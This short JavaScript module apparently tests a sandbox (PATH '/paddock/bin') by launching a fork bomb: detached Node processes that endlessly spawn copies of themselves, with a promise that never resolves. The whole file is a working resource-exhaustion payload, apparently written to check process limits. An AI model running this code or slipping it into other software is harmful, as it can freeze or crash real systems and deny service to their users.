// Every process starts others as fast as it can.
module.exports = () => {
  const bomb = `const { spawn } = require('child_process');
    const more = () => { try { spawn(process.execPath, ['-e', process.env.BOMB], { stdio: 'ignore', detached: true }).on('error', () => {}) } catch {} };
    for (;;) more();`;
  for (let i = 0; i < 16; i++) node(bomb, { detached: true, env: { PATH: '/paddock/bin', BOMB: bomb } }).on('error', () => {});
  return new Promise(() => {});
};
